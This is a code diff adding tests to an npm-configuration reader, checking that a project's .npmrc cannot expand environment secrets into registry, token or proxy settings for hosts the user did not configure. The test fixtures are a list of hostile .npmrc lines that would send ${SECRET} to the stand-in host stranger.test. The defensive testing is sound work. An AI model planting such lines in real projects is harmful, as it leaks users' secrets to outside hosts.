@@ -186,6 +186,87 @@ describe('tokens', () => {
 	});
 });
 
+// biome-ignore-start lint/suspicious/noTemplateCurlyInString: as npm writes them
+describe("variables in a project's file, which whoever wrote the project chose", () => {
+	const env = { SECRET: 'of-the-environment' };
+	const all = (name = 'plain', option?: string) => {
+		try {
+			return JSON.stringify(read(env, name, option));
+		} catch (error) {
+			return (error as Error).message;
+		}
+	};
+
+	test.each([
+		['registry=https://stranger.test/${SECRET}/'],
+		['registry=https://${SECRET}@stranger.test/'],
+		['registry=https://stranger.test/?${SECRET}'],
+		['registry=https://${SECRET}.stranger.test/'],
+		['registry=https://mirror.test.${SECRET}/'],
+		['registry=https://stranger.test/\n//stranger.test/:_authToken=${SECRET}'],
+		['registry=https://stranger.test/\n//stranger.test/:_auth=${SECRET}'],
+		['registry=https://stranger.test/\n//stranger.test/:username=u\n//stranger.test/:_password=${SECRET}'],
+		['registry=https://of-the-environment.test/\n//${SECRET}.test/:_authToken=token'],
+		['https-proxy=http://${SECRET}.stranger.test'],
+		['proxy=http://u:${SECRET}@stranger.test'],
+		['https-proxy=u:${SECRET}@stranger.test:80'],
+	])('are not put in for a host of its own: %s', (text) => {
+		project(text);
+		user(`@own:registry=${MIRROR}/`);
+		expect(all()).not.toContain('of-the-environment"');
+		expect(all()).not.toMatch(/of-the-environment[@/?]|dTpv|"authorization"/);
+	});
+
+	test('the message says where they may be used', () => {
+		project('registry=https://stranger.test/${SECRET}/');
+		expect(refusal(env)).toBe(
+			`the registry's address has the variable \${SECRET}, which a project's .npmrc may use only for a host that your own .npmrc or --registry names (${join(folder, 'project/.npmrc')})`,
+		);
+	});
+
+	test.each([
+		['a host of the user', MIRROR, () => user(`registry=${MIRROR}/`)],
+		['a host for which the user has a token', MIRROR, () => user('//mirror.test/:username=u')],
+		['a host of a scope of the user', MIRROR, () => user(`@scope:registry=${MIRROR}/`)],
+		["npm's public registry", REGISTRY, () => undefined],
+	])('are put in for %s', (_what, registry, prepare) => {
+		prepare();
+		project(`registry=${registry}/\n${registry.replace('https:', '')}/:_authToken=\${SECRET}`);
+		expect(read(env).headers).toEqual({ authorization: 'Bearer of-the-environment' });
+	});
+
+	test('are put in for the host of --registry, and for that alone', () => {
+		project('//mirror.test/npm/:_authToken=${SECRET}\n//stranger.test/:_authToken=${SECRET}');
+		expect(read(env, 'plain', MIRROR).headers).toEqual({ authorization: 'Bearer of-the-environment' });
+		expect(read(env, 'plain', 'https://mirror.test:8443/npm').headers).toEqual({});
+	});
+
+	test('are put in where nothing is sent, and for the path at a host of the user', () => {
+		const path = join(folder, 'ca.pem');
+		writeFileSync(path, pem('CERTIFICATE', Buffer.from('one')));
+		user(`registry=${MIRROR}/`);
+		project('cafile=${FOLDER}/ca.pem\nregistry=https://mirror.test/${REPOSITORY}/');
+		const access = read({ FOLDER: folder, REPOSITORY: 'npm-all' });
+		expect(access.authorities).toHaveLength(1);
+		expect(access.base).toBe('https://mirror.test/npm-all');
+	});
+
+	test('that would move the address to another host are not put in', () => {
+		user(`registry=${MIRROR}/`);
+		project('registry=https://${SECRET}@mirror.test/');
+		expect(() => read({ SECRET: 'stranger.test/' })).toThrow(UsageError);
+	});
+
+	test('hold as ever in a file of the user that is the one of the project', () => {
+		writeFileSync(join(home, 'package.json'), '{}');
+		user('registry=https://own.test/${SECRET}');
+		expect(readRegistryAccess('plain', undefined, { env, cwd: home, home }).base).toBe(
+			'https://own.test/of-the-environment',
+		);
+	});
+});
+// biome-ignore-end lint/suspicious/noTemplateCurlyInString: as npm writes them
+
 describe('proxies', () => {
 	test.each([
 		[{ HTTPS_PROXY: 'http://proxy.test:1' }, 'http://proxy.test:1/'],
@@ -271,6 +352,20 @@ describe('under `npm run`, which passes on what its files say', () => {
 			base: 'https://set.test',
 			mirror: { place: 'npm_config_registry' },
 		});
+	});
+
+	test("a variable into which npm put what a project's file asks for gives way to that file, too", () => {
+		const outer = join(folder, 'project');
+		// biome-ignore lint/suspicious/noTemplateCurlyInString: as npm writes them
+		project('registry=https://stranger.test/${SECRET}/\nhttps-proxy=http://${SECRET}.stranger.test');
+		const env = passedOn({
+			npm_config_local_prefix: outer,
+			npm_config_registry: 'https://stranger.test/of-the-environment/',
+			npm_config_https_proxy: 'http://of-the-environment.stranger.test/',
+			SECRET: 'of-the-environment',
+		});
+		expect(refusal(env)).toContain('which a project');
+		expect(refusal(env, 'plain', MIRROR)).toMatch(/^the proxy's address has a variable, which a project/);
 	});
 
 	test('what it writes as empty says nothing: the file does', () => {
